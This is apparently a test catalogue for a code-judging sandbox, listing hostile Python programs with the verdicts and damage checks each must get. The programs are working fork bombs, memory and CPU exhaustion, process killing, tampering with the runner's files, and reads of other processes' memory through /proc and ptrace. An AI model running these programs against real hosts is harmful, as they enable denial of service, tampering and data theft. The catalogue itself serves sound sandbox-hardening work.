"""The hostile programs: what each one tries, the verdict it must get, the damage it must not do.

test_hostile.py judges every entry through the real judge path (``SampleJudge.judge``) on both
jails. Expected outputs stay on the host, as in production: the ``secret`` problem's expected
output is a random token drawn for each test run, which never enters the jail, so a program that
prints it found it somewhere it should not have been able to read.

Programs are text with ``@@NAME@@`` placeholders, filled per run by ``render``. They report what
they managed to do as ``REPORT key=value`` lines on stderr (never stdout, which is judged), and
say where they found a secret as ``FOUND ...`` lines on stderr. The damage checks named in
``Attack.checks`` are implemented in harness.py (``check_damage``); every entry also gets the common ones
(never SE, leftovers none, the runner untouched, the next submission judged right and seeing no
trace). docs/security.md turns this catalogue into the table of guarantees.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

from taco_judge.verdict import Verdict

AC, WA, TLE, MLE, RE, CE, OLE = Verdict.AC, Verdict.WA, Verdict.TLE, Verdict.MLE, Verdict.RE, Verdict.CE, Verdict.OLE

# The problems an attack can be judged on (built per run by harness.HostileRun.problem):
SECRET = "secret"  # stdin "Print the secret.", expected output: the run's random token
ECHO = "echo"  # two tests: stdin is a token reversed, expected the token (an honest program can solve it)
CALL = "call"  # call mode, f(s) -> s reversed, expected [token] (two tests)
CALL_SUM = "call_sum"  # call mode, f(a, b) -> a + b, expected [number]: numbers are compared with ==

DEFAULT_OUTPUT_BYTES = 1 << 20
PRODUCTION_OUTPUT_BYTES = 32 * 1024 * 1024  # the judge's default cap (Limits.output_bytes)


@dataclass(frozen=True)
class LocalGap:
    """An attack the local jail cannot stop (listed in README's security section)."""

    reason: str


# The local jail's gaps (when the judge runs as root with namespaces and cgroups; weaker set-ups
# are skipped): none at the moment. An entry the local jail cannot stop names its LocalGap here.


@dataclass(frozen=True)
class Attack:
    """One hostile program and what the judge must make of it."""

    name: str
    summary: str  # what the program tries, in one line
    code: str
    verdicts: frozenset[Verdict]  # the sample verdict it must get (SE is never acceptable)
    damage: str  # what it must not achieve (the checks below are the evidence)
    problem: str = SECRET
    time_limit_s: float = 0.5
    memory_mb: int = 128
    output_bytes: int = DEFAULT_OUTPUT_BYTES
    checks: tuple[str, ...] = ()
    local_gap: LocalGap | None = None
    prelude: str | None = None  # another program judged just before, in the same session
    raw: bool = False  # code is used as given (no dedent, no placeholders)


def attack(name: str, summary: str, code: str, verdicts, damage: str, **kwargs) -> Attack:
    """An Attack; ``verdicts`` is one Verdict or a set of them."""
    if isinstance(verdicts, Verdict):
        verdicts = {verdicts}
    return Attack(name, summary, code, frozenset(verdicts), damage, **kwargs)


def render(entry_code: str, values: dict[str, str], raw: bool = False) -> str:
    """The program text for one run: dedented, placeholders filled."""
    if raw:
        return entry_code
    code = textwrap.dedent(entry_code).lstrip("\n")
    for key, value in values.items():
        code = code.replace(f"@@{key}@@", value)
    if "@@" in code:
        raise ValueError(f"unfilled placeholder in {code[code.index('@@'):][:40]!r}")
    return code


# ---------------------------------------------------------------------------------------------
# Snippets shared by the scanners: they look for the run's secret token (built from pieces so that
# a program's own text never matches) and print it if found, which would make the sample AC.

_SCAN_HEAD = r"""
import os, re, sys, time
SECRET = re.compile(b'taco' + b'secret[0-9a-f]{32}')
found = {}
scanned = 0

def look(where, data):
    global scanned
    scanned += 1
    match = SECRET.search(data)
    if match:
        found.setdefault(match.group(0).decode(), where)

def read_file(path, limit=1 << 22):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return None
    try:
        return os.read(fd, limit)
    except OSError:
        return None
    finally:
        os.close(fd)
"""

_SCAN_TAIL = r"""
for token, where in found.items():
    sys.stderr.write(f'FOUND the secret in {where}\n')
sys.stderr.write(f'REPORT scanned={scanned}\n')
print(next(iter(found)) if found else 'nothing found')
"""


def _scanner(body: str) -> str:
    return _SCAN_HEAD + textwrap.dedent(body) + _SCAN_TAIL


_WALK = r"""
def walk(top, deadline, skip=('/proc', '/sys', '/dev')):
    for dirpath, dirnames, filenames in os.walk(top):
        if found or time.monotonic() > deadline:
            return
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in skip]
        look(dirpath, '\n'.join(dirnames + filenames).encode())  # a name could hold it too
        for name in filenames:
            if found or time.monotonic() > deadline:
                return  # (a real thief stops at the first copy of the answer)
            path = os.path.join(dirpath, name)
            try:
                if not os.path.isfile(path) or os.path.getsize(path) > (1 << 22):
                    continue
            except OSError:
                continue
            data = read_file(path)
            if data is not None:
                look(path, data)
"""


# ---------------------------------------------------------------------------------------------
# The catalogue.

# A later sample looking for what an earlier one left in a kernel object (@@KIND@@).
_KERNEL_OBJECT_READER = r"""
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
kind = '@@KIND@@'
found = 'none'
if kind == 'mqueue':
    libc.syscall.restype = ctypes.c_long
    fd = libc.syscall(240 if os.uname().machine == 'x86_64' else 180, b'@@MARK@@q', os.O_RDONLY | os.O_NONBLOCK, 0, None)
    if fd >= 0:
        buf = ctypes.create_string_buffer(8192)
        n = libc.mq_receive(fd, buf, 8192, None) if hasattr(libc, 'mq_receive') else -1
        found = f'queue open (read {n})'
elif kind == 'sysv_msg':
    q = libc.msgget(0x7ac0, 0)
    if q >= 0:
        found = f'queue {q}'
elif kind == 'keyring':
    libc.syscall.restype = ctypes.c_long
    # request_key('user', name, NULL, 0): the key's serial when some keyring of ours holds it
    key = libc.syscall(249 if os.uname().machine == 'x86_64' else 218, b'user', b'@@MARK@@k', None, 0)
    if key >= 0:
        found = f'key {key}'
    try:
        if '@@MARK@@' in open('/proc/keys').read():
            found = 'in /proc/keys'
    except OSError:
        pass
elif kind == 'abstract':
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect('\0@@MARK@@sock')
        found = 'connected: ' + s.recv(100).decode('latin-1')
    except OSError:
        pass
sys.stderr.write(f'REPORT {kind}={found}\n')
print('nothing left for me')
"""

# The writers the readers above follow: each tries to leave something, then prints the victim's answer.
_WRITERS = {
    "mqueue_writer": r"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        class Attr(ctypes.Structure):
            _fields_ = [('flags', ctypes.c_long), ('maxmsg', ctypes.c_long), ('msgsize', ctypes.c_long), ('cur', ctypes.c_long), ('pad', ctypes.c_long * 4)]
        attr = Attr(0, 4, 128, 0)
        fd = libc.syscall(240 if os.uname().machine == 'x86_64' else 180, b'@@MARK@@q', os.O_CREAT | os.O_WRONLY, 0o666, ctypes.byref(attr))
        if fd >= 0:
            libc.syscall(242 if os.uname().machine == 'x86_64' else 182, fd, b'the answer', 10, 0, None)
        """,
    "sysv_msg_writer": r"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        q = libc.msgget(0x7ac0, 0o1666)
        if q >= 0:
            msg = ctypes.create_string_buffer(b'\x01\0\0\0\0\0\0\0the answer')
            libc.msgsnd(q, msg, 10, 0)
        """,
    "keyring_writer": r"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        libc.syscall(248 if os.uname().machine == 'x86_64' else 217, b'user', b'@@MARK@@k', b'the answer', 10, -4)  # @u
        """,
    "abstract_socket_writer": r"""
        import os, socket, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.bind('\0@@MARK@@sock')
                s.listen(4)
                end = time.time() + 30
                while time.time() < end:
                    c, _ = s.accept()
                    c.sendall(b'the answer')
                    c.close()
            os._exit(0)
        time.sleep(0.3)
        """,
}

CATALOGUE: list[Attack] = [
    # ------------------------------------------------------------------ processes
    attack(
        "fork_bomb",
        "every process forks in a loop (a safety valve stops at 300 processes where nothing else does)",
        r"""
        import os, sys
        root = os.getpid()
        most = failures = 0
        while True:
            try:
                n = sum(1 for e in os.listdir('/proc') if e.isdigit())
            except OSError:
                n = 0
            if os.getpid() == root and n > most:
                most = n
                sys.stderr.write(f'REPORT procs={n} fork_failures={failures}\n')
            if n < 300:
                try:
                    os.fork()
                except OSError:
                    failures += 1
        """,
        {TLE, MLE},
        "more processes than max_processes; a judge or host that stops responding; processes left behind",
        checks=("procs_bounded",),
        time_limit_s=1.0,
    ),
    attack(
        "cpu_burn_in_threads",
        "16 threads hashing (the GIL is released, so they really run in parallel)",
        r"""
        import hashlib, threading
        threading.stack_size(256 * 1024)
        data = b'x' * (1 << 20)
        def burn():
            while True:
                hashlib.sha256(data).digest()
        for _ in range(16):
            threading.Thread(target=burn, daemon=True).start()
        burn()
        """,
        TLE,
        "CPU time beyond the limit (every thread counts)",
        checks=("cpu_bounded",),
        memory_mb=256,
    ),
    attack(
        "cpu_in_unreaped_workers",
        "3 worker processes do 1.2 s of CPU work for a 0.5 s limit; the answer is printed, the workers never waited for",
        r"""
        import os, time
        answer = input()[::-1]
        r, w = os.pipe()
        for _ in range(3):
            if os.fork() == 0:
                os.close(r)
                start = time.process_time()
                while time.process_time() - start < 0.4:
                    pass
                os.write(w, b'.')
                os._exit(0)
        os.close(w)
        done = b''
        while len(done) < 3:
            chunk = os.read(r, 3)
            if not chunk:
                break
            done += chunk
        print(answer)
        """,
        TLE,
        "an answer that needed more CPU than the limit accepted (CPU hidden in processes nobody waits for)",
        problem=ECHO,
        checks=("cpu_bounded",),
    ),
    attack(
        "cpu_in_orphans",
        "the same work in orphaned grandchildren (reparented to the jail's pid 1)",
        r"""
        import os, time
        answer = input()[::-1]
        r, w = os.pipe()
        for _ in range(3):
            if os.fork() == 0:
                if os.fork() == 0:
                    os.close(r)
                    start = time.process_time()
                    while time.process_time() - start < 0.4:
                        pass
                    os.write(w, b'.')
                os._exit(0)
        os.close(w)
        done = b''
        while len(done) < 3:
            chunk = os.read(r, 3)
            if not chunk:
                break
            done += chunk
        print(answer)
        """,
        TLE,
        "an answer that needed more CPU than the limit accepted",
        problem=ECHO,
        checks=("cpu_bounded",),
    ),
    attack("infinite_loop", "while True: pass", "while True:\n    pass\n", TLE, "running past the CPU limit",
           checks=("cpu_bounded",)),
    attack("sleep_forever", "sleeps (no CPU at all)", "import time\ntime.sleep(10 ** 6)\n", TLE,
           "holding the jail past the wall-clock backstop", checks=("wall_bounded",)),
    attack(
        "sigstop_itself",
        "stops itself with SIGSTOP (a stopped process uses no CPU and never exits)",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nprint('resumed')\n",
        TLE,
        "holding the jail past the wall-clock backstop",
        checks=("wall_bounded",),
    ),
    attack(
        "kill_runner_and_parent",
        "sends SIGSTOP, SIGTERM, SIGKILL, SIGINT, SIGHUP to pid 1, its parent and the parent's group, then answers",
        r"""
        import os, signal, sys
        answer = input()[::-1]
        targets = {'init': 1, 'parent': os.getppid()}
        try:
            group = os.getpgid(os.getppid())
            if group > 1:
                targets['parent_group'] = -group
        except OSError:
            pass
        hit = []
        for name, pid in targets.items():
            for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGINT, signal.SIGHUP):
                try:
                    os.kill(pid, sig)
                    hit.append(f'{name}:{sig.name}')
                except OSError:
                    pass
        sys.stderr.write('REPORT signalled=' + (','.join(hit) or 'none') + '\n')
        print(answer)
        """,
        AC,
        "a runner killed, stopped or restarted (which the host would record as SE, a sample left out of pass@k)",
        problem=ECHO,
        checks=("report_none:signalled", "same_runner"),
    ),
    attack(
        "kill_everything",
        "kill(-1, SIGSTOP) then kill(-1, SIGKILL): every process it may signal",
        r"""
        import os, signal, sys
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(-1, sig)
            except OSError as exc:
                sys.stderr.write(f'kill(-1, {sig.name}): {exc}\n')
        print('still here')
        """,
        WA,
        "any process of the jail's own (runner, zygote) or of the host stopped or killed",
        checks=("same_runner",),
    ),
    attack(
        "background_tamper",
        "a double-forked daemon (new session, ignores SIGTERM/SIGHUP/SIGINT) writes TAMPERED into every "
        "process's stdout and plants files in every dir it finds, for 30 s",
        r"""
        import os, signal, sys, time
        answer = input()[::-1]
        me = os.getpid()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                os.closerange(0, 64)
                deadline = time.monotonic() + 30
                while time.monotonic() < deadline:
                    for entry in os.listdir('/proc'):
                        if entry.isdigit() and int(entry) not in (me, os.getpid()):
                            try:
                                with open(f'/proc/{entry}/fd/1', 'w') as out:
                                    out.write('TAMPERED\n')
                            except OSError:
                                pass
                    for top in ('/tmp', os.path.dirname(os.getcwd()), os.getcwd()):
                        try:
                            names = os.listdir(top)
                        except OSError:
                            continue
                        for name in names + ['.']:
                            try:
                                with open(os.path.join(top, name, '@@MARK@@-planted'), 'w') as f:
                                    f.write('TAMPERED')
                            except OSError:
                                pass
                    time.sleep(0.005)
            os._exit(0)
        time.sleep(0.2)
        print(answer)
        """,
        AC,
        "a process that outlives its test and changes the next test's or the next submission's output or files",
        problem=ECHO,
    ),
    attack(
        "sysv_ipc_left_behind",
        "creates System V shared memory, a message queue and a semaphore and leaves them",
        r"""
        import ctypes, sys
        libc = ctypes.CDLL(None, use_errno=True)
        IPC_CREAT = 0o1000
        shm = libc.shmget(0x7AC0, 1 << 20, IPC_CREAT | 0o666)
        msg = libc.msgget(0x7AC1, IPC_CREAT | 0o666)
        sem = libc.semget(0x7AC2, 1, IPC_CREAT | 0o666)
        sys.stderr.write(f'REPORT shm={shm} msg={msg} sem={sem}\n')
        print('left IPC objects behind')
        """,
        WA,
        "IPC objects that outlive the submission (a channel to the next one)",
    ),
    # ------------------------------------------------------------------ memory
    attack("memory_bomb_at_once", "allocates 4 GiB in one go", "x = bytearray(4 * 1024 ** 3)\nprint(len(x))\n",
           MLE, "memory beyond the limit"),
    attack(
        "memory_bomb_gradual",
        "grows a list by 1 MiB of touched memory at a time, forever",
        "chunks = []\nwhile True:\n    chunks.append(b'x' * (1 << 20))\n",
        MLE,
        "memory beyond the limit",
    ),
    attack(
        "memory_in_forked_children",
        "4 children each touch 110 MB (each under the 128 MB limit, 440 MB together)",
        r"""
        import os, time
        pids = []
        for _ in range(4):
            pid = os.fork()
            if pid == 0:
                block = bytearray(110 * 1024 * 1024)
                for i in range(0, len(block), 4096):
                    block[i] = 1
                time.sleep(1.0)
                os._exit(0)
            pids.append(pid)
        for pid in pids:
            os.waitpid(pid, 0)
        print('survived')
        """,
        MLE,
        "memory beyond the limit, summed over the program's processes",
        time_limit_s=3.0,
    ),
    attack(
        "raise_own_rlimits",
        "raises every soft limit to its hard limit, tries to raise the hard ones and pid 1's, then allocates 1 GiB",
        r"""
        import os, resource, sys
        raised = []
        for name in ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_NPROC', 'RLIMIT_NOFILE', 'RLIMIT_FSIZE', 'RLIMIT_STACK',
                     'RLIMIT_CORE', 'RLIMIT_DATA', 'RLIMIT_MEMLOCK'):
            which = getattr(resource, name)
            soft, hard = resource.getrlimit(which)
            try:
                resource.setrlimit(which, (hard, hard))
            except (ValueError, OSError):
                pass
            try:
                resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                if hard != resource.RLIM_INFINITY:
                    raised.append(name)
            except (ValueError, OSError):
                pass
            for pid in (1, os.getppid()):
                try:
                    resource.prlimit(pid, which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                    raised.append(f'{name}@{pid}')
                except (ValueError, OSError):
                    pass
        sys.stderr.write('REPORT raised=' + (','.join(raised) or 'none') + '\n')
        x = bytearray(1024 ** 3)
        print(len(x))
        """,
        MLE,
        "a hard limit raised (its own, or the runner's)",
        checks=("report_none:raised",),
    ),
    # ------------------------------------------------------------------ output
    attack(
        "stdout_flood",
        "writes 64 KiB blocks to stdout forever (under the production 32 MiB cap)",
        "import sys\nblock = 'y' * 65536\nwhile True:\n    sys.stdout.write(block)\n",
        OLE,
        "the judge's memory growing with the flood; the flood running until a timeout",
        output_bytes=PRODUCTION_OUTPUT_BYTES,
        checks=("judge_memory", "killed_at_cap"),
    ),
    attack(
        "stderr_flood",
        "writes 100 MiB to stderr, then the right answer",
        r"""
        import sys
        answer = input()[::-1]
        block = 'e' * 65535 + '\n'
        for _ in range(1600):
            sys.stderr.write(block)
        print(answer)
        """,
        AC,
        "the judge's memory growing with stderr",
        problem=ECHO,
        time_limit_s=3.0,
        checks=("judge_memory",),
    ),
    attack(
        "huge_line_without_newline",
        "one line of 32 MiB - 1 bytes with no newline (just under the production cap)",
        "import sys\nsys.stdout.write('A' * (@@PRODUCTION_CAP@@ - 1))\n",
        WA,
        "the judge's memory or time blowing up on one huge token",
        output_bytes=PRODUCTION_OUTPUT_BYTES,
        time_limit_s=2.0,
        checks=("judge_memory",),
    ),
    attack(
        "token_flood",
        "32 MiB of two-letter tokens ('ab ab ab ...', 11 million of them), just under the production cap",
        "import sys\nsys.stdout.write('ab ' * ((@@PRODUCTION_CAP@@ - 1) // 3))\n",
        WA,
        "the judge's memory blowing up when the checker tokenizes the output",
        output_bytes=PRODUCTION_OUTPUT_BYTES,
        time_limit_s=2.0,
        checks=("judge_memory",),
    ),
    attack(
        "close_stdout_after_answer",
        "prints the answer, then closes sys.stdout (CPython exits 0)",
        "import sys\nprint(input()[::-1])\nsys.stdout.close()\n",
        AC,
        "a correct program judged wrong because of how it ended",
        problem=ECHO,
    ),
    attack(
        "close_fd1_then_print",
        "closes fd 1, then prints the answer (CPython fails at the flush: exit 1 or 120)",
        "import os\nos.close(1)\nprint(input()[::-1])\n",
        RE,
        "an output the program could not write counted as written",
        problem=ECHO,
    ),
    attack(
        "invalid_utf8_output",
        "the right answer followed by bytes that are not UTF-8",
        "import sys\nsys.stdout.buffer.write(input()[::-1].encode() + b'\\n\\xff\\xfe\\xfd\\n')\n",
        WA,
        "a crash of the checker (SE) or invalid bytes accepted",
        problem=ECHO,
    ),
    attack(
        "exit_nonzero_after_answer",
        "prints the right answer, then exits with status 3",
        "import sys\nprint(input()[::-1])\nsys.exit(3)\n",
        RE,
        "a failing program accepted",
        problem=ECHO,
    ),
    # ------------------------------------------------------------------ time
    attack(
        "answer_just_over_cpu_limit",
        "computes for 1.04 x the CPU limit (finishing before the runner's kill), then prints the right answer",
        "import time\nanswer = input()[::-1]\nwhile time.process_time() < @@TIME_LIMIT@@ * 1.04:\n    pass\nprint(answer)\n",
        TLE,
        "an answer that took more CPU than the limit accepted",
        problem=ECHO,
    ),
    attack(
        "answer_in_sigxcpu_handler",
        "loops forever, planning to print the right answer when SIGXCPU arrives",
        r"""
        import signal, sys
        answer = input()[::-1]
        def handler(*_):
            print(answer, flush=True)
            sys.exit(0)
        signal.signal(signal.SIGXCPU, handler)
        while True:
            pass
        """,
        TLE,
        "an answer printed after the CPU limit accepted",
        problem=ECHO,
    ),
    attack(
        "answer_after_wall_backstop",
        "sleeps past the wall-clock backstop, then prints the right answer",
        "import time\nanswer = input()[::-1]\ntime.sleep(@@WALL_LIMIT@@ + 1)\nprint(answer)\n",
        TLE,
        "an answer printed after the backstop accepted",
        problem=ECHO,
        checks=("wall_bounded",),
    ),
    # ------------------------------------------------------------------ crashes and compile errors
    attack(
        "deep_recursion_segfault",
        "recursion through C (map) with the recursion limit lifted, until the C stack overflows",
        "import sys\nsys.setrecursionlimit(10 ** 7)\ndef down(n):\n    return list(map(down, [n + 1]))\ndown(0)\n",
        RE,
        "the crash taken for anything but the program's own runtime error",
        memory_mb=256,
        time_limit_s=2.0,  # the descent takes about 0.5 s of CPU
    ),
    attack("ctypes_null_dereference", "reads address 0 through ctypes", "import ctypes\nctypes.string_at(0)\n", RE,
           "the crash taken for anything but the program's own runtime error"),
    attack("syntax_error", "does not parse", "def f(:\n    return 1\n", CE, "anything but a compile error"),
    attack("empty_program", "no code at all", "", WA, "anything but a wrong answer (it prints nothing)",
           raw=True),
    attack(
        "lone_surrogate_in_source",
        "a comment holding a lone surrogate (what a JSON generation file's \\ud800 escape decodes to)",
        "# a lone surrogate: " + chr(0xD800) + "\nprint(input()[::-1])\n",
        CE,
        "a crash of the runner or of the judge (the source cannot be encoded as UTF-8)",
        problem=ECHO,
        raw=True,
    ),
    attack(
        "latin1_source_read_with_replacement",
        "Latin-1 bytes decoded as UTF-8 with replacement (U+FFFD in a comment and a string), otherwise correct",
        b"# caf\xe9 cr\xe8me\nnote = 'na\xefve'\nprint(input()[::-1])\n".decode("utf-8", "replace"),
        AC,
        "a correct program rejected because its text was damaged where it does not matter",
        problem=ECHO,
        raw=True,
    ),
    # ------------------------------------------------------------------ files
    attack(
        "fill_working_dir",
        "writes 16 MiB files into its working dir until the disk refuses (at most 600 MiB), then answers",
        r"""
        import os, signal, sys
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        answer = input()[::-1]
        block = b'w' * (1 << 20)
        written, error, i = 0, '', 0
        while written < 600 * (1 << 20) and not error:
            try:
                fd = os.open(f'fill{i}', os.O_WRONLY | os.O_CREAT, 0o600)
                try:
                    for _ in range(16):
                        n = os.write(fd, block)
                        written += n
                        if n < len(block):
                            raise OSError(28, 'short write')
                finally:
                    os.close(fd)
            except OSError as exc:
                error = exc.strerror or str(exc)
            i += 1
        sys.stderr.write(f'REPORT written={written} stopped_by={error!r}\n')
        print(answer)
        """,
        MLE,  # what it leaves on the jail's tmpfs is memory, and it fills the tmpfs
        "more disk than the jail's writable space; files surviving into the next submission; a full disk for it",
        problem=ECHO,
        time_limit_s=3.0,
        checks=("disk_bounded",),
    ),
    attack(
        "unremovable_working_dir",
        "puts 100 MiB in a subdir, then takes the permissions away (subdir 000, working dir 500), and answers",
        r"""
        import os, signal
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        answer = input()[::-1]
        if not os.path.exists('keep'):
            os.mkdir('keep')
            block = b'k' * (1 << 20)
            for i in range(7):
                with open(f'keep/part{i}', 'wb') as f:
                    for _ in range(15):
                        f.write(block)
            os.chmod('keep', 0)
            os.chmod('.', 0o500)
        print(answer)
        """,
        AC,
        "files that survive the submission (the next one runs as the same uid) and the jail's space used up for it",
        problem=ECHO,
        time_limit_s=2.0,
        memory_mb=256,  # its 105 MiB of files are memory (a tmpfs): within this limit
    ),
    attack(
        "deeply_nested_dirs",
        "nests 5000 dirs in its working dir, with a file at the bottom, and answers",
        r"""
        import os
        answer = input()[::-1]
        if not os.path.exists('d'):  # (the working dir stays for the submission's next test)
            for _ in range(5000):
                os.mkdir('d')
                os.chdir('d')
            with open('bottom.txt', 'w') as f:
                f.write('still here')
        print(answer)
        """,
        AC,
        "a clean-up that fails on it (SE, a sample left out of pass@k) or leaves it to the next submission",
        problem=ECHO,
        time_limit_s=2.0,
    ),
    attack(
        "fill_tmp_outside_working_dir",
        "writes up to 64 MiB into /tmp, /var/tmp, /dev/shm and /run/lock themselves (not its working dir)",
        r"""
        import os, signal, sys
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        answer = input()[::-1]
        block = b't' * (1 << 20)
        report = []
        for place in ('/tmp', '/var/tmp', '/dev/shm', '/run/lock'):
            written = 0
            for i in range(4):
                try:
                    fd = os.open(os.path.join(place, f'@@MARK@@-fill{i}'), os.O_WRONLY | os.O_CREAT, 0o644)
                except OSError:
                    break
                try:
                    for _ in range(16):
                        written += os.write(fd, block)
                except OSError:
                    pass
                finally:
                    os.close(fd)
            if written:
                report.append(f'{place}:{written}')
        sys.stderr.write('REPORT outside=' + (','.join(report) or 'none') + '\n')
        print(answer)
        """,
        AC,
        "files outside the working dir (on the host, or surviving the submission)",
        problem=ECHO,
        time_limit_s=3.0,
        checks=("report_none:outside", "no_marked_host_files"),
    ),
    attack(
        "write_outside_working_dir",
        "tries to create a file in 30 places outside its working dir (system dirs, the runner's dir, the repo, ...)",
        r"""
        import os, sys
        answer = input()[::-1]
        places = ['/', '/etc', '/usr', '/usr/local/bin', '/usr/lib/python3/dist-packages', '/opt', '/opt/taco-judge',
                  '/root', '/home', '/var', '/var/tmp', '/var/lib', '/var/cache', '/dev', '/dev/shm', '/dev/mqueue',
                  '/run', '/run/lock',
                  '/tmp', '/srv', '/mnt', '/proc/sys/kernel', '/sys/fs/cgroup', os.path.dirname(os.getcwd())]
        try:
            for arg in open('/proc/1/cmdline', 'rb').read().split(b'\0'):
                if arg.endswith(b'.py'):
                    runner_dir = os.path.dirname(arg.decode())
                    places += [runner_dir, os.path.dirname(runner_dir)]
        except OSError:
            pass
        places += [p for p in sys.path if p and os.path.isdir(p)]
        here = os.path.realpath(os.getcwd())
        written = []
        for place in places:
            if os.path.realpath(place) == here:
                continue  # its own working dir (sys.path[0]) is where it may write
            try:
                with open(os.path.join(place, '@@MARK@@-outside'), 'w') as f:
                    f.write('x')
                written.append(place)
            except OSError:
                pass
        sys.stderr.write('REPORT wrote_outside=' + (','.join(written) or 'none') + '\n')
        print(answer)
        """,
        AC,
        "a file created outside the working dir",
        problem=ECHO,
        checks=("report_none:wrote_outside", "no_marked_host_files"),
    ),
    attack(
        "overwrite_the_runner",
        "finds the runner's source via /proc/*/cmdline and tries to write, truncate, chmod, rename and delete it, "
        "and to put a module next to it",
        r"""
        import os, sys
        answer = input()[::-1]
        paths = {'/opt/taco-judge/python_runner.py'}
        for pid in ('1', str(os.getppid())):
            try:
                for arg in open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0'):
                    if arg.endswith(b'.py'):
                        paths.add(arg.decode())
            except OSError:
                pass
        done = []
        for path in sorted(paths):
            actions = (
                ('write', lambda: open(path, 'r+b').write(b'#')),
                ('append', lambda: open(path, 'ab').write(b'#')),
                ('truncate', lambda: os.truncate(path, 0)),
                ('chmod', lambda: os.chmod(path, 0o777)),
                ('rename', lambda: os.rename(path, path + '.@@MARK@@')),
                ('unlink', lambda: os.unlink(path)),
                ('sibling', lambda: open(os.path.join(os.path.dirname(path), '@@MARK@@_module.py'), 'w').write('x')),
            )
            for name, action in actions:
                try:
                    action()
                    done.append(f'{name}:{path}')
                except (OSError, ValueError):
                    pass
        try:
            open('/proc/1/exe', 'r+b').write(b'x')
            done.append('exe')
        except OSError:
            pass
        sys.stderr.write('REPORT runner_paths=' + ','.join(sorted(paths)) + ' tampered=' + (','.join(done) or 'none') + '\n')
        print(answer)
        """,
        AC,
        "the runner's source (or the interpreter) changed, or a module planted where the runner imports from",
        problem=ECHO,
        checks=("report_none:tampered", "runner_intact", "no_marked_host_files"),
    ),
    # ------------------------------------------------------------------ looking for answers
    attack(
        "steal_previous_output",
        "after another program printed the secret 2000 times in the same session, searches its own inherited "
        "memory (every readable mapping, through ctypes) and every file it can reach for it and for that program's code",
        _SCAN_HEAD + r"""
import ctypes
CODE = re.compile(b'taco' + b'code[0-9a-f]{32}')
for line in open('/proc/self/maps'):
    parts = line.split()
    lo, hi = (int(x, 16) for x in parts[0].split('-'))
    name = parts[5] if len(parts) > 5 else 'anonymous'
    # The anonymous memory (heap, stack, arenas) is where freed buffers stay; a file mapping
    # read past its file's end would kill the reader with SIGBUS.
    if not parts[1].startswith('r') or name not in ('anonymous', '[heap]', '[stack]'):
        continue
    try:
        data = ctypes.string_at(lo, hi - lo)
    except Exception:
        continue
    look(f'own memory ({name})', data)
    if CODE.search(data):
        sys.stderr.write(f'FOUND the previous program code in own memory ({name})\n')
    del data
for top in (os.path.dirname(os.getcwd()), '/tmp'):  # where earlier submissions ran
    for dirpath, dirnames, filenames in os.walk(top):
        for name in filenames:
            data = read_file(os.path.join(dirpath, name))
            if data is not None:
                look(os.path.join(dirpath, name), data)
""" + _SCAN_TAIL,
        WA,
        "another submission's output (here: the very answer) or code read from memory or files",
        prelude="victim",
        time_limit_s=4.0,
        memory_mb=256,
        checks=("no_found", "scanned:3"),
    ),
    attack(
        "scan_proc",
        "reads environ, cmdline, status, maps, mountinfo, ... of every process in /proc, their open fds, "
        "and their memory through /proc/<pid>/mem at the offsets maps lists (no ptrace)",
        _scanner(
            r"""
            me = str(os.getpid())
            for pid in os.listdir('/proc'):
                if not pid.isdigit():
                    continue
                for name in ('environ', 'cmdline', 'status', 'stat', 'maps', 'mountinfo', 'cgroup', 'limits',
                             'comm', 'io', 'sched', 'wchan', 'attr/current'):
                    data = read_file(f'/proc/{pid}/{name}')
                    if data is not None:
                        look(f'/proc/{pid}/{name}', data)
                try:
                    fds = os.listdir(f'/proc/{pid}/fd')
                except OSError:
                    fds = []
                for fd in fds:
                    data = read_file(f'/proc/{pid}/fd/{fd}')
                    if data is not None:
                        look(f'/proc/{pid}/fd/{fd}', data)
                if pid == me:
                    continue
                try:
                    with open(f'/proc/{pid}/mem', 'rb', 0) as mem:
                        for line in open(f'/proc/{pid}/maps'):
                            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
                            try:
                                mem.seek(lo)
                                look(f'/proc/{pid}/mem', mem.read(min(hi - lo, 1 << 24)))
                            except (OSError, ValueError, OverflowError):
                                pass
                except OSError:
                    pass
            for path in ('/proc/cmdline', '/proc/mounts', '/proc/sysvipc/shm', '/proc/keys'):
                data = read_file(path)
                if data is not None:
                    look(path, data)
            """
        ),
        WA,
        "the expected output (or anything of the host's) read from another process",
        time_limit_s=3.0,
        checks=("no_found", "scanned:3"),
    ),
    attack(
        "ptrace_the_runner",
        "PTRACE_ATTACH / PTRACE_SEIZE and process_vm_readv on pid 1 and its parent, and /proc/<pid>/mem reads",
        r"""
        import ctypes, os, sys
        libc = ctypes.CDLL(None, use_errno=True)
        class iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        results = []
        for pid in (1, os.getppid()):
            for name, request in (('attach', 16), ('seize', 0x4206)):
                ok = libc.ptrace(request, pid, None, None) == 0
                results.append(f'{name}@{pid}:{"OK" if ok else "denied"}')
            try:
